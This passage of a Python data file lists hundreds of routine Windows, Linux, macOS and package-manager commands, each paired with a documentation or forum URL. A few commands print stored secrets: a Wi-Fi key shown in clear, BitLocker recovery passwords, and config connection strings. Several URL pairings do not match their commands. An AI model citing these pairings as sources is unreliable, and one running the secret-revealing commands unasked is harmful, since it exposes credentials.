        "Get-WinEvent -FilterHashtable @{LogName='System'; Level=2; StartTime=(Get-Date).AddHours(-12)} | Select-Object TimeCreated, ProviderName, Id -First 25",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/nettcpip/test-netconnection",
        "Test-NetConnection -ComputerName sql-reporting02.corp.local -Port 1433 -InformationLevel Detailed",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-childitem",
        "Get-ChildItem D:\\IISLogs\\W3SVC2 -Filter u_ex*.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-45) | Remove-Item -Verbose",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.security/set-executionpolicy",
        "Get-PSRepository; Get-InstalledModule | Where-Object Name -like 'Az.*' | Select-Object Name, Version",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/activedirectory/get-aduser",
        "Get-ADUser -Filter 'Enabled -eq $false' -Properties LastLogonDate | Select-Object Name,SamAccountName,LastLogonDate",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/activedirectory/search-adaccount",
        "Search-ADAccount -LockedOut | Unlock-ADAccount -WhatIf",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/restart-service",
        "Get-Service -DisplayName '*Veeam*' | Restart-Service -PassThru",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/storage/get-volume",
        "Get-Volume | Select-Object DriveLetter, FileSystemLabel, @{n='FreeGB';e={[math]::Round($_.SizeRemaining/1GB,1)}}",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-computerinfo",
        "Get-ComputerInfo -Property OsName,OsVersion,CsProcessors,OsTotalVisibleMemorySize",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/dism/get-windowsoptionalfeature",
        "Get-WindowsOptionalFeature -Online | Where-Object State -eq Enabled | Select-Object FeatureName",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/dism/enable-windowsoptionalfeature",
        "Enable-WindowsOptionalFeature -Online -FeatureName TelnetClient -All",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/netsecurity/new-netfirewallrule",
        "New-NetFirewallRule -DisplayName 'Zabbix agent 10050' -Direction Inbound -Protocol TCP -LocalPort 10050 -RemoteAddress 10.20.0.15 -Action Allow",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/measure-command",
        "Measure-Command { Get-ChildItem C:\\Windows\\System32 -Recurse -ErrorAction SilentlyContinue }",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/export-csv",
        "Get-Process | Sort-Object WS -Descending | Select-Object -First 20 Name,Id,@{n='MB';e={$_.WS/1MB}} | Export-Csv top20.csv -NoTypeInformation",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/exchange/get-mailbox",
        "Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Sort-Object TotalItemSize -Descending | Select-Object -First 10 DisplayName,TotalItemSize",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/exchange/set-mailbox",
        "Set-Mailbox -Identity j.berg@contoso.com -ForwardingSmtpAddress $null -DeliverToMailboxAndForward $false",
    ),
    (
        "https://learn.microsoft.com/en-us/graph/powershell/get-started",
        "Connect-MgGraph -Scopes 'User.Read.All','Group.Read.All'",
    ),
    (
        "https://learn.microsoft.com/en-us/graph/powershell/installation",
        "Install-Module Microsoft.Graph.Users -RequiredVersion 2.25.0 -Scope CurrentUser",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/azure/install-azps-windows",
        "Install-Module -Name Az -Repository PSGallery -Force -AllowClobber",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/az.compute/get-azvm",
        "Get-AzVM -Status | Select-Object Name, ResourceGroupName, PowerState",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-itemproperty",
        "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Select-Object DisplayName, DisplayVersion, Publisher | Sort-Object DisplayName",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/defender/get-mpcomputerstatus",
        "Get-MpComputerStatus | Select-Object AMServiceEnabled, AntivirusSignatureLastUpdated, RealTimeProtectionEnabled",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/defender/update-mpsignature",
        "Get-MpThreatDetection | Select-Object -First 5 ThreatID, InitialDetectionTime, ActionSuccess",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/defender/start-mpscan",
        "Start-MpScan -ScanType QuickScan",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/bitlocker/get-bitlockervolume",
        "Get-BitLockerVolume | Select-Object MountPoint, VolumeStatus, EncryptionPercentage, ProtectionStatus",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/printmanagement/get-printer",
        "Get-Printer | Where-Object PrinterStatus -ne 'Normal' | Format-Table Name, PrinterStatus, PortName",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-hotfix",
        "Get-HotFix -ComputerName rds01,rds02 | Where-Object HotFixID -eq 'KB5048667'",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/scheduledtasks/get-scheduledtask",
        "Get-ScheduledTask | Where-Object State -eq 'Ready' | Get-ScheduledTaskInfo | Select-Object TaskName, LastRunTime, LastTaskResult",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/dnsclient/clear-dnsclientcache",
        "Clear-DnsClientCache; Resolve-DnsName intranet.contoso.local",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/nettcpip/get-netipconfiguration",
        "Get-NetIPConfiguration | Format-List InterfaceAlias, IPv4Address, IPv4DefaultGateway, DNSServer",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/test-path",
        'if (-not (Test-Path "$env:USERPROFILE\\.ssh")) { New-Item -ItemType Directory "$env:USERPROFILE\\.ssh" }',
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/get-filehash",
        'Get-FileHash "$HOME\\Downloads\\KeePassXC-2.7.9-Win64.msi" -Algorithm SHA256 | Format-List',
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.archive/compress-archive",
        "Compress-Archive -Path .\\reports\\* -DestinationPath .\\reports-2026-12.zip -CompressionLevel Optimal",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/stop-process",
        "Get-Process -Name 'Teams' -ErrorAction SilentlyContinue | Stop-Process -Force",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/invoke-command",
        "Invoke-Command -ComputerName srv-app01,srv-app02 -ScriptBlock { Get-Service W3SVC }",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/enter-pssession",
        "Enter-PSSession -ComputerName dc01.corp.local -Credential (Get-Credential)",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/smbshare/get-smbshare",
        "Get-SmbShare | Where-Object Name -notlike '*$' | Get-SmbShareAccess",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/hyper-v/get-vm",
        "Get-VM | Where-Object State -eq 'Running' | Checkpoint-VM -SnapshotName \"pre-patch $(Get-Date -f yyyy-MM-dd)\"",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-restmethod",
        "(Invoke-RestMethod 'https://api.github.com/repos/microsoft/terminal/releases?per_page=3').tag_name",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/convertto-json",
        "Get-Service | Select-Object Name,Status | ConvertTo-Json -Depth 2 | Out-File services.json -Encoding utf8",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/pki/get-certificate",
        "Get-ChildItem Cert:\\LocalMachine\\My | Where-Object NotAfter -lt (Get-Date).AddDays(30) | Select-Object Subject, NotAfter, Thumbprint",
    ),
    (
        "https://stackoverflow.com/questions/8423368/how-to-get-the-size-of-a-folder",
        "'{0:N2} GB' -f ((Get-ChildItem C:\\Users\\anna\\Downloads -Recurse -File | Measure-Object Length -Sum).Sum / 1GB)",
    ),
    (
        "https://stackoverflow.com/questions/3919798/find-files-containing-text",
        "Get-ChildItem -Recurse -Include *.config | Select-String -Pattern 'connectionString' -SimpleMatch",
    ),
    (
        "https://stackoverflow.com/questions/1825585/determine-installed-powershell-version",
        "$PSVersionTable.PSVersion",
    ),
    (
        "https://stackoverflow.com/questions/9999999/reload-path-in-powershell",
        "$env:Path = [System.Environment]::GetEnvironmentVariable('Path','Machine') + ';' + [System.Environment]::GetEnvironmentVariable('Path','User')",
    ),
    (
        "https://stackoverflow.com/questions/4647756/run-as-administrator-check",
        "([Security.Principal.WindowsPrincipal][Security.Principal.WindowsIdentity]::GetCurrent()).IsInRole([Security.Principal.WindowsBuiltInRole]::Administrator)",
    ),
    (
        "https://woshub.com/check-windows-activation-status/",
        "Get-CimInstance SoftwareLicensingProduct -Filter \"Name like 'Windows%'\" | Where-Object PartialProductKey | Select-Object Name, LicenseStatus",
    ),
    (
        "https://woshub.com/get-last-reboot-time/",
        "Get-CimInstance Win32_OperatingSystem | Select-Object CSName, LastBootUpTime",
    ),
    (
        "https://adamtheautomator.com/powershell-remove-bloatware/",
        "Get-AppxPackage -AllUsers Microsoft.BingWeather | Select-Object Name, Version, PackageUserInformation",
    ),
    (
        "https://www.pdq.com/powershell/get-localuser/",
        "Get-LocalUser | Where-Object Enabled | Select-Object Name, LastLogon, PasswordLastSet",
    ),
    (
        "https://www.pdq.com/powershell/add-localgroupmember/",
        "Add-LocalGroupMember -Group 'Remote Desktop Users' -Member 'CORP\\helpdesk-l2'",
    ),
    (
        "https://docs.microsoft.com/en-us/windows-server/administration/windows-commands/winget",
        "winget upgrade --all --include-unknown --accept-source-agreements",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/package-manager/winget/export",
        'winget list --source winget | Select-String -Pattern "Adobe|Zoom"',
    ),
    (
        "https://learn.microsoft.com/en-us/sql/powershell/download-sql-server-ps-module",
        "Install-Module -Name SqlServer -AllowClobber; Invoke-Sqlcmd -ServerInstance 'sql01' -Query 'SELECT @@VERSION'",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/exchange/connect-to-exchange-online-powershell",
        "Connect-ExchangeOnline -UserPrincipalName admin@contoso.onmicrosoft.com -ShowBanner:$false",
    ),
    (
        "https://learn.microsoft.com/en-us/microsoft-365/enterprise/connect-to-microsoft-365-powershell",
        "Get-MgUser -All -Property DisplayName,UserPrincipalName,AccountEnabled | Where-Object {-not $_.AccountEnabled}",
    ),
    (
        "https://learn.microsoft.com/en-us/intune/intune-service/remote-actions/device-sync",
        "Get-MgDeviceManagementManagedDevice -Filter \"operatingSystem eq 'Windows'\" | Select-Object DeviceName, LastSyncDateTime",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/storage/storage-spaces/",
        "Get-PhysicalDisk | Select-Object FriendlyName, MediaType, HealthStatus, @{n='SizeGB';e={$_.Size/1GB}}",
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-client/deployment/sfc",
        "sfc /scannow; DISM /Online /Cleanup-Image /RestoreHealth",
    ),
    (None, "gci env: | sort name"),
    (None, "Get-Content .\\app.log -Tail 100 -Wait"),
    (None, "Select-String -Path .\\*.csv -Pattern '^2026-12-0[1-7]' | Measure-Object"),
    (
        None,
        "$creds = Get-Credential; New-PSDrive -Name Z -PSProvider FileSystem -Root \\\\nas\\backup -Credential $creds -Persist",
    ),
    (None, "Rename-Computer -NewName 'LT-ANNA-2026' -Restart"),
    (
        None,
        "Get-NetAdapter | Where-Object Status -eq 'Up' | Select-Object Name, LinkSpeed, MacAddress",
    ),
    (
        None,
        "Import-Csv .\\newhires.csv | ForEach-Object { New-ADUser -Name $_.Name -SamAccountName $_.Sam -Department $_.Dept -Enabled $false }",
    ),
    (
        None,
        "Get-EventLog -LogName Security -InstanceId 4625 -Newest 20 | Format-Table TimeGenerated, Message -Wrap",
    ),
    (None, "w32tm /stripchart /computer:dc02.corp.local /samples:5 /dataonly"),
    (None, "Get-Acl C:\\Shares\\Finance | Format-List"),
]

WINCMD = "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/"
ADMIN_CMD: list[tuple[str | None, str]] = [
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/ipconfig",
        'ipconfig /displaydns | findstr /i "acme"',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/netsh",
        'netsh wlan show profile name="Office-5G" key=clear',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/netsh",
        "netsh winsock reset && netsh int ip reset",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/robocopy",
        "robocopy D:\\Projects \\\\nas01\\backup\\Projects /MIR /R:2 /W:5 /LOG:C:\\Temp\\robocopy.log",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/gpupdate",
        "gpupdate /target:user /force /wait:120",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/gpresult",
        "gpresult /scope computer /r | more",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/chkdsk",
        "chkdsk D: /scan",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/tasklist",
        'tasklist /svc /fi "imagename eq svchost.exe"',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/taskkill",
        "taskkill /im excel.exe /f",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/net-use",
        "net use S: \\\\fs01.corp.local\\shared /persistent:yes",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/net-user",
        "net user svc_backup /domain",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/whoami",
        "whoami /groups /fo list",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/systeminfo",
        "systeminfo /s ws-reception01 /fo csv > C:\\Temp\\reception.csv",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/sc-query",
        "sc query state= all | findstr SERVICE_NAME",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/sc-config",
        "sc config wuauserv start= demand",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/bcdedit",
        "bcdedit /set {bootmgr} timeout 5",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/diskpart",
        "diskpart /s C:\\Temp\\list-disks.txt",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/nslookup",
        "nslookup -type=mx contoso.com 1.1.1.1",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/tracert",
        "tracert -h 15 mail.acme-partner.com",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/pathping",
        "pathping -n vpn.corp.example.com",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/powercfg",
        "powercfg /requests",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/powercfg",
        "powercfg /energy /duration 30",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/wevtutil",
        'wevtutil qe System /c:20 /rd:true /f:text /q:"*[System[(Level=2)]]"',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/icacls",
        'icacls "D:\\Shares\\HR" /grant "CORP\\HR-Readers:(OI)(CI)RX" /T',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/takeown",
        "takeown /f D:\\OldProfile /r /d y",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/xcopy",
        "xcopy C:\\Users\\anna\\Documents E:\\Backup\\Documents /E /H /C /I /Y",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/w32tm",
        'w32tm /config /manualpeerlist:"pool.ntp.org" /syncfromflags:manual /update',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/manage-bde",
        "manage-bde -protectors -get C: -Type RecoveryPassword",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/dism",
        'DISM /Online /Get-Packages /Format:Table | findstr /i "Package_for_RollupFix"',
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/wmic",
        "wmic logicaldisk where drivetype=3 get caption,freespace,size",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/reg-query",
        'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion" /v DisplayVersion',
    ),
    ("https://www.tenforums.com/tutorials/", "shutdown /r /t 0 /o"),
    (None, "dir /s /b *.pst"),
    (None, 'for %f in (*.txt) do type "%f" >> all.txt'),
    (None, "ping -t 192.168.1.1"),
    (None, "arp -a | findstr dynamic"),
]

SHELL: list[tuple[str | None, str]] = [
    (
        "https://stackoverflow.com/questions/4210042/how-to-exclude-a-directory-in-find",
        "find . -path ./node_modules -prune -o -name '*.js' -print",
    ),
    (
        "https://stackoverflow.com/questions/16956810/find-all-files-containing-text",
        "grep -rnw '/etc/nginx' -e 'server_name'",
    ),
    (
        "https://stackoverflow.com/questions/1358540/how-to-count-lines",
        "wc -l $(git ls-files '*.py') | tail -1",
    ),
    (
        "https://stackoverflow.com/questions/20796200/how-to-loop-over-files",
        'for f in raw/*.heic; do magick "$f" -quality 85 "jpg/$(basename "${f%.heic}").jpg"; done',
    ),
    (
        "https://stackoverflow.com/questions/11287861/disk-usage-sorted",
        "du -sh -- * | sort -rh | head -20",
    ),
    (
        "https://stackoverflow.com/questions/3601515/tar-exclude",
        "tar --exclude='*.log' -czf backup-$(date +%F).tar.gz /srv/app",
    ),
    (
        "https://stackoverflow.com/questions/4651437/rsync-over-ssh",
        "rsync -avz --progress -e 'ssh -p 2222' ./dist/ deploy@web01:/var/www/site/",
    ),
    (
        "https://stackoverflow.com/questions/9853325/kill-process-on-port",
        "lsof -nP +D ~/Library/Caches/pip | wc -l",
    ),
    (
        "https://stackoverflow.com/questions/8880603/loop-through-lines",
        'while IFS= read -r line; do echo "host: $line"; done < hosts.txt',
    ),
    (
        "https://stackoverflow.com/questions/13322485/how-to-get-the-last-n-lines",
        "journalctl -u postgresql@16-main -p warning --since today --no-pager",
    ),
    (
        "https://stackoverflow.com/questions/5410757/delete-lines-matching",
        "sed -n '/^\\[database\\]/,/^\\[/p' settings.ini",
    ),
    (
        "https://stackoverflow.com/questions/2099471/add-line-numbers",
        "awk '{print NR\": \"$0}' notes.txt",
    ),
    (
        "https://stackoverflow.com/questions/1401002/trick-an-application",
        "script -q -c 'ls --color=always' /dev/null | less -R",
    ),
    (
        "https://stackoverflow.com/questions/7427262/read-json-with-jq",
        "curl -s 'https://api.github.com/repos/neovim/neovim/releases?per_page=5' | jq -r '.[].tag_name'",
    ),
    (
        "https://stackoverflow.com/questions/6174220/parse-yaml",
        "yq '.services.web.image' docker-compose.yml",
    ),
    (
        "https://stackoverflow.com/questions/3211891/ssh-keygen",
        'ssh-keygen -t ed25519 -C "anna@laptop" -f ~/.ssh/id_ed25519',
    ),
    (
        "https://stackoverflow.com/questions/7114990/copy-ssh-key",
        "ssh-copy-id -i ~/.ssh/id_ed25519.pub admin@10.0.0.12",
    ),
    (
        "https://stackoverflow.com/questions/3510673/find-and-replace",
        "grep -rl 'old-api.internal' src/ | xargs sed -i 's/old-api.internal/api.internal/g'",
    ),
    (
        "https://stackoverflow.com/questions/10929453/read-a-file-line-by-line",
        "cat urls.txt | xargs -n1 -P4 curl -s -o /dev/null -w '%{http_code} %{url_effective}\\n'",
    ),
    (
        "https://stackoverflow.com/questions/592620/check-if-program-exists",
        "command -v docker >/dev/null 2>&1 || echo 'docker not installed'",
    ),
    (
        "https://stackoverflow.com/questions/1728507/extract-tar-gz",
        "tar -xzf node-v22.11.0-linux-x64.tar.gz -C /opt",
    ),
    (
        "https://stackoverflow.com/questions/18062778/list-open-ports",
        "sudo ss -tnp state established '( dport = :5432 )'",
    ),
    (
        "https://stackoverflow.com/questions/5905054/find-large-files",
        'find /var/lib/docker -maxdepth 3 -type d -name "*-json.log" -prune -o -size +1G -print 2>/dev/null',
    ),
    (
        "https://stackoverflow.com/questions/14366390/check-ssl-certificate",
        "echo | openssl s_client -connect mail.acme.io:993 2>/dev/null | openssl x509 -noout -subject -issuer -enddate",
    ),
    (
        "https://stackoverflow.com/questions/10175812/generate-self-signed-cert",
        "openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout intranet.key -out intranet.csr -subj '/CN=intranet.acme.local/O=Acme AB'",
    ),
    (
        "https://stackoverflow.com/questions/2507766/base64-decode-file",
        "base64 -d secret.b64 > secret.json",
    ),
    (
        "https://stackoverflow.com/questions/22697688/watch-a-command",
        "watch -n 2 'kubectl get pods -n staging'",
    ),
    (
        "https://stackoverflow.com/questions/31877706/zip-a-folder",
        "zip -r site-backup.zip public_html -x '*.cache*'",
    ),
    ("https://wiki.archlinux.org/title/Systemd", "sudo systemctl enable --now sshd.service"),
    ("https://wiki.archlinux.org/title/Systemd/Journal", "journalctl --vacuum-size=500M"),
    ("https://wiki.archlinux.org/title/Pacman", "sudo pacman -Syu --needed base-devel git"),
    ("https://wiki.archlinux.org/title/Network_configuration", "ip -br addr show && ip route"),
    ("https://wiki.archlinux.org/title/Swap", "swapon --show && cat /proc/sys/vm/swappiness"),
    ("https://wiki.archlinux.org/title/Users_and_groups", "sudo usermod -aG dialout,plugdev anna"),
    (
        "https://ubuntu.com/server/docs/firewalls",
        "sudo ufw allow OpenSSH && sudo ufw enable && sudo ufw status verbose",
    ),
    (
        "https://ubuntu.com/server/docs/package-management",
        "sudo apt list --upgradable 2>/dev/null | grep -i security",
    ),
    ("https://docs.fedoraproject.org/en-US/quick-docs/dnf/", "sudo dnf upgrade --refresh -y"),
    (
        "https://www.cyberciti.biz/faq/linux-find-out-which-process-is-listening-upon-a-port/",
        "sudo netstat -tulpn | grep :80",
    ),
    (
        "https://www.cyberciti.biz/faq/howto-check-disk-space-in-linux/",
        "df -i /var && du -x --max-depth=1 /var | sort -n | tail",
    ),
    ("https://www.cyberciti.biz/faq/linux-check-memory-usage/", "free -h && vmstat 1 5"),
    (
        "https://linuxize.com/post/how-to-add-swap-space-on-ubuntu-22-04/",
        "echo '/swapfile none swap sw 0 0' | sudo tee -a /etc/fstab",
    ),
    (
        "https://linuxize.com/post/how-to-set-or-change-timezone-on-ubuntu/",
        "sudo timedatectl set-timezone Europe/Stockholm",
    ),
    (
        "https://linuxize.com/post/how-to-create-users-in-linux/",
        'sudo adduser --disabled-password --gecos "" ci-runner',
    ),
    (
        "https://docs.python.org/3/library/venv.html",
        "python3.12 -m venv ~/.venvs/notebooks && ~/.venvs/notebooks/bin/pip install jupyterlab pandas matplotlib",
    ),
    (
        "https://docs.python.org/3/library/http.server.html",
        "python3 -m http.server 9090 --directory ./coverage/html",
    ),
    ("https://docs.python.org/3/library/json.html", "cat response.json | python3 -m json.tool"),
    ("https://nodejs.org/en/learn/command-line/", 'node -e "console.log(process.versions)"'),
    ("https://go.dev/doc/tutorial/getting-started", "go mod init example.com/hello && go run ."),
    (
        "https://doc.rust-lang.org/cargo/commands/cargo-build.html",
        "cargo build --release && ls -lh target/release/",
    ),
    ("https://man7.org/linux/man-pages/man1/crontab.1.html", "crontab -l | grep -v '^#'"),
    (
        "https://man7.org/linux/man-pages/man1/tcpdump.1.html",
        "sudo tcpdump -i eth0 -nn port 53 -c 100",
    ),
    (
        "https://man7.org/linux/man-pages/man8/iptables.8.html",
        "sudo iptables -L -n -v --line-numbers",
    ),
    (
        "https://ss64.com/mac/defaults.html",
        "defaults read com.apple.dock persistent-apps | grep file-label",
    ),
    ("https://ss64.com/mac/pmset.html", 'pmset -g log | grep -i "Wake from" | tail -5'),
    ("https://ss64.com/mac/softwareupdate.html", "softwareupdate --list-full-installers | head"),
    ("https://ss64.com/mac/networksetup.html", "networksetup -setdnsservers Wi-Fi 1.1.1.1 9.9.9.9"),
    ("https://ss64.com/mac/diskutil.html", "diskutil list external physical"),
    ("https://support.apple.com/en-us/102612", "scutil --dns | grep nameserver | sort -u"),
    ("https://ss64.com/mac/mdfind.html", "mdfind -onlyin ~/Documents 'kMDItemFSName == \"*.key\"'"),
    ("https://ss64.com/mac/caffeinate.html", "caffeinate -dims -t 3600"),
    (None, "ls -la ~/.config"),
    (None, "history | grep ssh | tail -20"),
    (None, "cd ~/projects/webshop && git pull && npm ci && npm run build"),
    (
        None,
        "export AWS_PROFILE=staging && aws s3 ls s3://acme-staging-assets/ --recursive --human-readable | tail",
    ),
    (None, "ssh -L 5432:db.internal:5432 bastion.acme.io -N"),
    (None, "scp ./report.pdf anna@10.0.1.20:/home/anna/"),
    (None, "tail -f /var/log/syslog | grep -i error"),
    (None, "mkdir -p build && cd build && cmake -DCMAKE_BUILD_TYPE=Release .. && make -j$(nproc)"),
    (None, "ffmpeg -i talk.mov -vcodec libx264 -crf 23 -preset medium talk.mp4"),
    (None, "uptime && who"),
]

PACKAGES: list[tuple[str | None, str]] = [
    ("https://pypi.org/project/httpx/", "pip install httpx"),
    ("https://pypi.org/project/polars/", "pip install 'polars[pyarrow]'"),
    ("https://pypi.org/project/ruff/", "pipx install ruff"),
    ("https://pypi.org/project/pre-commit/", "pip install pre-commit && pre-commit install"),
    ("https://pypi.org/project/fastapi/", 'pip install "uvicorn[standard]==0.32.1" gunicorn'),
    ("https://docs.astral.sh/uv/guides/projects/", "uv add requests --dev pytest"),
    ("https://docs.astral.sh/uv/concepts/tools/", "uvx ruff check ."),
    ("https://python-poetry.org/docs/cli/", "poetry add sqlalchemy@^2.0 && poetry lock"),
    ("https://www.npmjs.com/package/typescript", "npm install --save-dev typescript @types/node"),
    (
        "https://www.npmjs.com/package/vite",
        "npm create vite@latest admin-panel -- --template svelte-ts",
    ),
    ("https://www.npmjs.com/package/eslint", "npm i -D eslint-plugin-jsx-a11y@6"),
    ("https://www.npmjs.com/package/prettier", 'npx prettier --write "src/**/*.{ts,tsx,css}"'),
    (
        "https://pnpm.io/cli/add",
        "pnpm add -D @playwright/test && pnpm exec playwright install chromium",
    ),
    ("https://yarnpkg.com/cli/add", "yarn add zod react-hook-form"),
    (
        "https://nextjs.org/docs/app/getting-started/installation",
        "npx create-next-app@latest dashboard --typescript --eslint --app",
    ),
    ("https://docs.npmjs.com/cli/v10/commands/npm-audit", "npm audit fix --omit=dev"),
    ("https://crates.io/crates/ripgrep", "cargo install --locked bat fd-find"),
    (
        "https://crates.io/crates/tokio",
        "cargo add reqwest --no-default-features --features rustls-tls,json",
    ),
    ("https://pkg.go.dev/github.com/spf13/cobra", "go get -u github.com/spf13/cobra@latest"),
    ("https://formulae.brew.sh/formula/wget", "brew install wget"),
    ("https://formulae.brew.sh/cask/visual-studio-code", "brew install --cask rectangle obsidian"),
    (
        "https://formulae.brew.sh/formula/postgresql@16",
        "brew install postgresql@16 && brew services start postgresql@16",
    ),
    ("https://docs.brew.sh/FAQ", "brew outdated --greedy && brew upgrade --cask --greedy"),
    ("https://packages.ubuntu.com/noble/htop", "sudo apt install -y htop"),
    (
        "https://packages.debian.org/bookworm/build-essential",
        "sudo apt-get install -y build-essential pkg-config libssl-dev",
    ),
    (
        "https://packages.fedoraproject.org/pkgs/podman/podman/",
        "sudo dnf install -y podman podman-compose",
    ),
    (
        "https://wiki.alpinelinux.org/wiki/Alpine_Package_Keeper",
        "apk add --no-cache curl ca-certificates tzdata",
    ),
    (
        "https://community.chocolatey.org/packages/7zip",
        "choco install notepadplusplus.install --version 8.7.1 -y",
    ),
    ("https://community.chocolatey.org/packages/git", "choco upgrade git -y"),
    ("https://winget.run/pkg/Microsoft/PowerToys", "winget install --id Microsoft.PowerToys -e"),
    ("https://winget.run/pkg/Mozilla/Firefox", "winget install Mozilla.Firefox --scope machine"),
    ("https://scoop.sh/#/apps?q=neovim", "scoop install neovim"),
    (
        "https://www.powershellgallery.com/packages/PSReadLine",
        "Install-Module PSReadLine -Scope CurrentUser -Force -SkipPublisherCheck",
    ),
    (
        "https://www.powershellgallery.com/packages/Pester",
        "Install-Module -Name Pester -MinimumVersion 5.5.0 -Force",
    ),
    (
        "https://www.nuget.org/packages/Newtonsoft.Json",
        "dotnet add package Serilog.Sinks.File --version 6.0.0",
    ),
    (
        "https://learn.microsoft.com/en-us/dotnet/core/tools/dotnet-tool-install",
        "dotnet tool install --global dotnet-ef",
    ),
    ("https://rubygems.org/gems/rails", "gem install rails -v 7.2.1"),
    ("https://bundler.io/guides/getting_started.html", "bundle install --jobs 4 --retry 3"),
    ("https://getcomposer.org/doc/03-cli.md", "composer require --dev phpstan/phpstan:^2.0"),
    (
        "https://docs.conda.io/projects/conda/en/latest/commands/create.html",
        "conda create -n ds python=3.12 numpy pandas jupyterlab -c conda-forge",
    ),
    (
        "https://flathub.org/apps/org.gimp.GIMP",
        "flatpak install flathub org.inkscape.Inkscape com.github.tchx84.Flatseal",
    ),
    ("https://snapcraft.io/install/code/ubuntu", "sudo snap refresh --list"),
    ("https://nixos.org/manual/nix/stable/command-ref/nix-env", "nix-env -iA nixpkgs.jq"),
    ("https://mise.jdx.dev/getting-started.html", "mise use --global node@22 python@3.12"),
    (
        "https://asdf-vm.com/guide/getting-started.html",
        "asdf plugin add nodejs && asdf install nodejs 22.11.0",
    ),
